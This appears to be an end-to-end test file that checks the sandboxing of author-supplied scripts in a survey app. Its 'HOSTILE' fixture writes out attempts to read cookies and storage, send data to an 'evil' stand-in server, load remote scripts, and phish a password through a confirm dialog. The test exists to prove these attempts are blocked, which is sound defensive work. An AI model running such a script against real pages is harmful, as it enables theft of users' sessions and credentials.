import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { expectAccessible } from '../../src/harness/inspect-screen.ts';
import { answerPages } from '../../src/pages/answer-journey.ts';
import { publishJourney, qtypeOf } from '../../src/harness/journey-survey.ts';
import { type ServerProcess, startServer } from '../../src/harness/server-process.ts';
import { expect, test } from '../../src/harness/test.ts';
import { RespondentApp } from '../../src/pages/respondent-app.ts';

// PROJECT-18, A24: authors' scripts receive the shown page and have access to nothing else.

test.use({ locale: 'en-GB' });

let server: ServerProcess;
let thirdParty: Server;
let calls: string[] = [];
// The tests share a process, so that only one server is started.
test.describe.configure({ mode: 'default' });
test.beforeAll(async () => {
  server = await startServer({ environment: { AUTHOR_SCRIPTS: 'on' } });
  thirdParty = createServer(({ url = '' }, response) => {
    calls.push(url);
    response.setHeader('access-control-allow-origin', '*').end('taken');
  });
  await new Promise<void>((resolve) => void thirdParty.listen(0, '127.0.0.1', resolve));
});
test.beforeEach(() => {
  calls = [];
});
test.afterAll(async () => {
  await server.stop();
  thirdParty.close();
});
const evil = () => `http://127.0.0.1:${(thirdParty.address() as AddressInfo).port}`;

test('a script shows content below the page, and is called for each page and the end @rare', async ({
  page,
}) => {
  const { link } = await publishJourney(server.url, {
    gjs: `
      const messages = [];
      const show = (text) => {
        messages.push(text);
        document.body.textContent = messages.join(', ');
        canvass.setHeight(40);
      };
      canvass.on('page', ({ page, questions, progress, language, direction }) =>
        show([page, questions, progress, language, direction].join(' ')));
      canvass.on('end', ({ status }) => show('end ' + status));`,
  });
  const app = new RespondentApp(page, qtypeOf);
  await app.begin(link);
  const frame = page.locator('.app-author-script');
  const shownContent = frame.contentFrame().locator('body');
  await expect(shownContent).toHaveText('1 colour 0 en-GB ltr');
  await expect(frame).toHaveCSS('height', '40px');
  await expectAccessible(page, 'author-script');
  await answerPages(app, 0, 1);
  await expect(shownContent).toHaveText(/, 2 name \d+ en-GB ltr$/);
  await answerPages(app, 1, 5);
  await expect(shownContent).toHaveText(/, end 1$/);
});

const HOSTILE = `
  const found = {};
  const attempt = async (name, act) => {
    try { found[name] = String(await act()); } catch (error) { found[name] = 'no'; }
  };
  (async () => {
    await attempt('cookie', () => document.cookie);
    await attempt('storage', () => localStorage.length);
    await attempt('databases', () => indexedDB.open('canvass'));
    await attempt('parent', () => parent.document.title);
    await attempt('answers', () => fetch('/api/survey/x'));
    await attempt('network', () => fetch('ELSEWHERE/fetch'));
    await attempt('top', () => { top.location = 'ELSEWHERE/top'; return 'no'; });
    await attempt('popup', () => window.open('ELSEWHERE/popup') ?? 'no');
    await attempt('dialog', () => confirm('Your password?') || 'no');
    new Image().src = 'ELSEWHERE/image';
    navigator.sendBeacon?.('ELSEWHERE/beacon');
    const script = document.createElement('script');
    script.src = 'ELSEWHERE/script';
    document.body.append(script);
    for (const height of [1e9, -1, NaN, '100', {}, undefined])
      parent.postMessage({ canvass: 'height', height }, '*');
    for (const message of [null, 'x', { canvass: 'submit' }, { type: 'submit', height: 3 }, [], { canvass: 'height' }])
      parent.postMessage(message, '*');
    found.origin = origin;
    document.body.textContent = JSON.stringify(found);
    canvass.on('page', ({ page }) => { if (page === 3) location = 'ELSEWHERE/away'; });
  })();`;

test('a hostile script cannot reach page or network, and the survey completes', async ({ browser }) => {
  // A separate page, because the browser reports each refused attempt in its console.
  const page = await browser.newPage();
  const { link } = await publishJourney(server.url, { gjs: HOSTILE.replaceAll('ELSEWHERE', evil()) });
  const app = new RespondentApp(page, qtypeOf);
  await app.begin(link);
  const frame = page.locator('.app-author-script');
  const shownContent = frame.contentFrame().locator('body');
  await expect(shownContent).toHaveText(/^\{.*\}$/);
  const results = JSON.parse(await shownContent.innerText()) as Record<string, string>;
  const { origin, ...attempts } = results;
  expect([origin, new Set(Object.values(attempts))]).toEqual(['null', new Set(['no'])]);
  await expect(frame).toHaveCSS('height', '600px'); // the maximum height
  await answerPages(app, 0, 5);
  await expect(page.locator('div.app-status')).toContainText('Thank you');
  expect(new URL(page.url()).origin).toBe(server.url);
  expect(calls).toEqual([]);
  await page.close();
});
